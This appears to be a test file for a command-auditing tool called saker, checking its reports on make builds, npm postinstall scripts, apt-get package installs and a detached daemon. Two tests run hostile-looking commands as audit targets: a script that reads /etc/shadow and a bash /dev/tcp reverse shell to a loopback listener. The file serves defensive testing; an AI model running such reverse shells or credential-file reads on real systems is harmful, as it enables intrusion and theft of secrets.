/**
 * Audits of real commands. What they mean is compared with the golden reports in `golden/`; `SAKER_GOLDEN=write` writes
 * these anew, to be looked through and thinned out to what holds on every machine.
 */
import { assert, assertEquals } from "@std/assert";
import { withFiles } from "../cli/_saker.ts";
import { liveTest } from "../_live.ts";
import { audit } from "./_audit.ts";
import { assertMeaning, type Meaning, meaningOf } from "./_meaning.ts";

const GOLDEN = new URL("golden/", import.meta.url);

/** Audits the command and compares what the report means with `golden/NAME.json`. */
async function assertGolden(
  name: string,
  command: readonly string[],
  names: Readonly<Record<string, string>>,
): Promise<void> {
  const { code, report } = await audit(["--grace", "60s"], command);
  const meaning = meaningOf(report, names);
  const file = new URL(`${name}.json`, GOLDEN);
  if (Deno.env.get("SAKER_GOLDEN") === "write") {
    await Deno.writeTextFile(file, `${JSON.stringify(meaning, null, 2)}\n`);
  }
  const golden: Meaning = JSON.parse(await Deno.readTextFile(file));
  assertMeaning(meaning, golden);
  const bad = golden.findings.some((each) =>
    !/^(Notice|Info|Debug)/.test(each)
  );
  assertEquals(code, bad ? 3 : 0);
}

async function run(
  command: readonly string[],
  env: Record<string, string> = {},
): Promise<void> {
  const { code, stderr } = await new Deno.Command(command[0], {
    args: command.slice(1),
    stdin: "null",
    env,
  }).output();
  assert(code === 0, `${command}: ${new TextDecoder().decode(stderr)}`);
}

/** A test that needs programs which not every machine has. */
function commandTest(
  name: string,
  programs: readonly string[],
  body: () => Promise<void>,
): void {
  const missing = programs.find((program) => !isInstalled(program));
  if (missing === undefined) liveTest(name, body);
  else {
    Deno.test({
      name: `${name} (there is no ${missing})`,
      ignore: true,
      fn: body,
    });
  }
}

function isInstalled(program: string): boolean {
  return (Deno.env.get("PATH") ?? "").split(":").some((dir) => {
    try {
      return Deno.statSync(`${dir}/${program}`).isFile;
    } catch {
      return false;
    }
  });
}

commandTest(
  "saker audit reports how make builds a program",
  ["make", "cc"],
  async () => {
    const source = "int main(void) { return 0; }\n";
    const makefile = "greet: greet.o\n\tcc -o $@ $^\n" +
      "greet.o: greet.c\n\tcc -c $<\n";
    await withFiles(
      { "greet.c": source, Makefile: makefile },
      (dir) =>
        assertGolden("make", ["make", "-s", "-C", dir], { [dir]: "DIR" }),
    );
  },
);

commandTest(
  "saker audit reports what the install script of a package for npm does",
  ["npm", "tar"],
  async () => {
    const manifest = {
      name: "saker-tiny",
      version: "1.0.0",
      scripts: { postinstall: "touch DIR/by-the-script" },
    };
    await withFiles(
      { "package.json": JSON.stringify(manifest) },
      async (dir) => {
        await Deno.mkdir(`${dir}/package`);
        await Deno.mkdir(`${dir}/app`);
        await Deno.rename(`${dir}/package.json`, `${dir}/package/package.json`);
        await run(["tar", "-C", dir, "-czf", `${dir}/tiny.tgz`, "package"]);
        await Deno.writeTextFile(`${dir}/app/package.json`, "{}");
        await assertGolden("npm", [
          ...["npm", "install", "--silent", "--offline", "--no-audit"],
          ...["--ignore-scripts=false", "--cache", `${dir}/cache`],
          ...["--prefix", `${dir}/app`, `${dir}/tiny.tgz`],
        ], { [dir]: "DIR" });
      },
    );
  },
);

commandTest(
  "saker audit reports what apt-get installs",
  ["apt-get", "dpkg-deb"],
  async () => {
    // made here, so that no package source need be in reach
    const name = "saker-tiny-package";
    const control = `Package: ${name}\nVersion: 1.0\nArchitecture: all\n` +
      "Maintainer: nobody <nobody@example.org>\nDescription: a test of saker\n";
    const script = "#!/bin/sh\nset -e\ninstall -d /run/saker-tiny\n" +
      "rmdir /run/saker-tiny\n";
    await withFiles({ control, postinst: script }, async (dir) => {
      const tree = `${dir}/tree`;
      await Deno.mkdir(`${tree}/DEBIAN`, { recursive: true });
      await Deno.chmod(`${tree}/DEBIAN`, 0o755);
      await Deno.mkdir(`${tree}/opt/saker-tiny`, { recursive: true });
      await Deno.writeTextFile(`${tree}/opt/saker-tiny/file`, "content\n");
      await Deno.rename(`${dir}/control`, `${tree}/DEBIAN/control`);
      await Deno.rename(`${dir}/postinst`, `${tree}/DEBIAN/postinst`);
      await Deno.chmod(`${tree}/DEBIAN/postinst`, 0o755);
      await run(["dpkg-deb", "-b", tree, `${dir}/tiny.deb`]);
      try {
        await assertGolden("apt-get", [
          ...["apt-get", "-q", "-y", "--no-install-recommends"],
          ...["-o", "APT::Sandbox::User=root"],
          // somebody else may be at it
          ...["-o", "DPkg::Lock::Timeout=100", "install", `${dir}/tiny.deb`],
        ], { [dir]: "DIR" });
      } finally {
        await run(["dpkg", "--purge", name]);
      }
    });
  },
);

liveTest("saker audit reports a daemon up to its end", async () => {
  const script = `#!/bin/sh
(setsid sh -c 'cd /; sleep 0.5; : > DIR/from-the-daemon; exit 6' > /dev/null 2>&1 &)
`;
  await withFiles(
    { "daemon.sh": script },
    (dir) =>
      assertGolden("daemon", ["sh", `${dir}/daemon.sh`], { [dir]: "DIR" }),
  );
});

liveTest("saker audit reports a script that reads /etc/shadow", async () => {
  const script = "#!/bin/sh\ngrep -c root: /etc/shadow > DIR/copy\n";
  await withFiles(
    { "look.sh": script },
    (dir) => assertGolden("shadow", ["sh", `${dir}/look.sh`], { [dir]: "DIR" }),
  );
});

liveTest("saker audit reports a reverse shell to loopback", async () => {
  const listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
  const { port } = listener.addr as Deno.NetAddr;
  const controlled = listener.accept().then(async (connection) => {
    await connection.write(new TextEncoder().encode("id\nexit 3\n"));
    return await new Response(connection.readable).text();
  });
  try {
    await assertGolden("reverse-shell", [
      "bash",
      "-c",
      `bash --norc -i >& /dev/tcp/127.0.0.1/${port} 0>&1`,
    ], { [` ${port}`]: " PORT" });
    assert((await controlled).includes("uid="));
  } finally {
    listener.close();
  }
});
